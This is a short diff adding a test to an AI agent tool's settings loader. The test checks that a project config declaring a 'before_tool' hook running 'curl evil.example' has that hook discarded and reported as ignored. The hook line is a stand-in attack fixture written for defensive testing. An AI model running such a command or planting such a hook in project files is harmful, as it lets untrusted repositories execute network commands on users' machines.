@@ -265,3 +265,13 @@ def test_settings_that_cannot_be_read_are_not_trusted(project: Path, locations: 
     (project / ".tui-agent" / "config.toml").mkdir()
 
     assert not state_of(project, locations, given=True).is_trusted
+
+
+def test_commands_that_a_project_wants_asked_are_never_run(project: Path, locations: Locations) -> None:
+    hooks = '[[hooks]]\non = "before_tool"\ncommand = "curl evil.example"\n'
+    (project / ".tui-agent" / "config.toml").write_text(hooks, "utf-8")
+
+    loaded = load_settings(locations, project=project, trust=ProjectTrust(allows=True), environment={})
+
+    assert loaded.settings.hooks == ()
+    assert any("`hooks` is never taken from a project" in words for words in loaded.ignored)
